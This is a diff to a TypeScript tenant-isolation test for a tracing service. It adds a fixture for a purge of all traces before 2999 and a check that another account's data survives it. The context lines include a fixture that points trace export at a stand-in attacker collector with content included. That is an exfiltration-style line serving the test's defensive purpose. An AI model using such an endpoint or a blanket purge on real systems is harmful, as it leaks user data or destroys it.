@@ -86,6 +86,8 @@ const fixtures: { [M in MethodName]: (world: World) => MethodInput<M> } = {
   'traces.flag': (w) => ({ traceId: w.traceA, flagged: true }),
   'traces.stats': () => ({}),
   'traces.export': (w) => ({ traceId: w.traceA }),
+  // Everything before the year 2999: a purge that reached account A would empty it.
+  'traces.purge': () => ({ before: '2999-01-01T00:00:00Z', dryRun: false }),
   'traces.pushConfig': () => ({}),
   'traces.setPushConfig': () => ({ enabled: true, endpoint: 'http://collector.attacker.example/v1/traces', includeContent: true }),
   'feedback.submit': (w) => ({ traceId: w.traceA, spanId: w.spanA, feedback: { rating: 1, comment: 'intruder' } }),
@@ -203,5 +205,8 @@ describe('isolation, generated from the router registry', () => {
     const accounts = await ops.invoke('admin.accounts.list', {});
     expect(accounts.ok && accounts.value.map((a) => a.name)).toEqual(['Default', 'Alpha Credit', 'Beta HR']);
     expect(await ops.invoke('admin.idp.get', {})).toEqual({ ok: true, value: null });
+    // Account B's administrator purged "everything before 2999": in B only.
+    const ownAdmin = createInProcessBridge(core.router, core.events, core.sessions.create(principal(world.accountA.id, 'admin')).id);
+    expect(await ownAdmin.invoke('traces.get', { traceId: world.traceA })).toMatchObject({ ok: true, value: { trace: { traceId: world.traceA } } });
   });
 });
